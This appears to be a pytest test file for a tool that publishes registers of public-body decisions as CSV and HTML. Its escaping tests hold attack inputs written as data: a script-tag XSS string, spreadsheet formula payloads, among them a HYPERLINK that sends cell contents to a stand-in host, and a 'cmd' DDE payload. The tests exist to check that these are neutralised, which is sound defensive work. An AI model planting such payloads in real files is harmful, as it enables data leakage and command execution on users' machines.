"""`notice register`: the published record of decisions, as CSV and as an accessible HTML table."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner

from notice_builder.cli import main
from notice_builder.publish.batch import BatchOptions, run_batch
from notice_builder.publish.register import COLUMNS
from tests.conftest import EXAMPLES, FINAL_EXAMPLE, SHORT_EXAMPLE, example_data


def invoke(*args):
    return CliRunner().invoke(main, ["register", *(str(a) for a in args)], catch_exceptions=False)


@pytest.fixture
def published(tmp_path):
    """Two decisions built into site/, as `notice batch` leaves them."""
    site = tmp_path / "site"
    run_batch([str(FINAL_EXAMPLE), str(SHORT_EXAMPLE)], BatchOptions(site, jobs=1))
    return site


class Page(HTMLParser):
    """Records the tags and attributes of an HTML page, and its text."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def all(self, tag):
        return [attrs for name, attrs in self.tags if name == tag]


def test_csv_has_one_row_a_decision_with_the_specified_columns(published):
    out = published / "register.csv"
    assert invoke(FINAL_EXAMPLE, SHORT_EXAMPLE, "-o", out).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert tuple(rows[0]) == COLUMNS
    assert COLUMNS == ("reference", "title", "date", "decision_maker", "status", "documents", "organisation")
    final = next(r for r in rows[1:] if r[0] == "WMPCC 012/2013")
    assert final[2:5] == ["2013-09-24", "Bob Jones, West Midlands Police and Crime Commissioner", "Final"]
    assert final[5] == "WMPCC-012-2013-board-report.docx; WMPCC-012-2013-notice.docx"
    assert final[6] == "West Midlands Police and Crime Commissioner"
    assert len(rows) == 3


def test_links_are_relative_to_the_register(published, tmp_path):
    out = tmp_path / "register.csv"
    invoke(FINAL_EXAMPLE, "-o", out, "--documents", published)
    row = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))[1]
    assert row[5].split("; ")[0] == "site/WMPCC-012-2013-board-report.docx"


def test_html_is_a_captioned_table_with_column_headers_in_en_gb(published):
    out = published / "register.html"
    invoke(FINAL_EXAMPLE, SHORT_EXAMPLE, "-o", out)
    page = Page(out.read_text(encoding="utf-8"))
    assert page.all("html") == [{"lang": "en-GB"}]
    assert len(page.all("title")) == 1 and len(page.all("caption")) == 1
    headers = page.all("th")  # one organisation: no Organisation column
    assert len(headers) == len(COLUMNS) - 1 and all(h == {"scope": "col"} for h in headers)
    text = "".join(page.text)
    assert "Record of decisions: West Midlands Police and Crime Commissioner" in text
    assert "Decisions of West Midlands Police and Crime Commissioner, published under the Elected Local " \
           "Policing Bodies (Specified Information) Order 2011." in text
    assert len(page.all("tr")) == 3
    assert {"href": "WMPCC-012-2013-notice.docx"} in page.all("a")


def test_html_escapes_what_the_decision_says(tmp_path):
    data = example_data(SHORT_EXAMPLE)
    data["title"] = 'Sponsorship <script>alert("x")</script> & "awards"'
    paper = tmp_path / "paper.json"
    paper.write_text(json.dumps(data, indent=2), encoding="utf-8")
    out = tmp_path / "register.html"
    invoke(paper, "-o", out)
    html = out.read_text(encoding="utf-8")
    assert "<script>" not in html
    assert "Sponsorship &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &quot;awards&quot;" in html
    assert "Not yet published" in html and "Not yet allocated" in html


def test_an_invalid_decision_writes_no_register(tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text('{"status": "draft"}', encoding="utf-8")
    result = invoke(FINAL_EXAMPLE, bad, "-o", tmp_path / "register.csv")
    assert result.exit_code == 1
    assert "Enter the decision title" in result.output
    assert not (tmp_path / "register.csv").exists()


def test_an_unknown_register_format_is_a_usage_error(tmp_path):
    assert invoke(FINAL_EXAMPLE, "-o", tmp_path / "register.pdf").exit_code == 2


def test_a_register_of_several_organisations_names_each_rows_organisation(tmp_path):
    out = tmp_path / "register.html"
    council = EXAMPLES / "council-executive-decision.json"
    assert invoke(FINAL_EXAMPLE, council, "-o", out).exit_code == 0
    page = Page(out.read_text(encoding="utf-8"))
    text = "".join(page.text)
    assert "Record of decisions: " not in text and "Decisions of 2 organisations" in text
    assert "Regulations 2012" in text and "Order 2011" in text
    assert len(page.all("th")) == len(COLUMNS)
    assert "Westbrook Borough Council" in text and "West Midlands Police and Crime Commissioner" in text


FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "  +", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def _formula_like(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in {lead.strip(" ") for lead in FORMULA_LEADS}


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_no_csv_cell_can_become_a_spreadsheet_formula(lead):
    from notice_builder.publish.register import DocumentLink, RegisterEntry, register_csv

    payload = f'{lead}HYPERLINK("http://example.invalid/?"&A1,"Click")'
    entry = RegisterEntry(reference=payload, title=payload, date="2013-07-16", decision_maker=payload,
                          status=payload, organisation=payload,
                          documents=(DocumentLink(f"{lead}cmd|'/c calc'!A0", "PDF"),))
    header, row = list(csv.reader(io.StringIO(register_csv([entry]), newline="")))
    assert header == list(COLUMNS)
    for cell in row:
        assert not _formula_like(cell), cell
    assert row[1] == "'" + payload  # shown as written, with the quote a spreadsheet hides


def test_a_title_starting_with_equals_is_text_in_the_csv_register(tmp_path):
    data = example_data(SHORT_EXAMPLE)
    data["title"] = '=HYPERLINK("http://example.invalid","Click")'
    decision = tmp_path / "decision.json"
    decision.write_text(json.dumps(data), encoding="utf-8")
    assert invoke(decision, "-o", tmp_path / "register.csv").exit_code == 0
    row = list(csv.reader(io.StringIO((tmp_path / "register.csv").read_text(encoding="utf-8"))))[1]
    assert row[COLUMNS.index("title")] == "'" + data["title"]
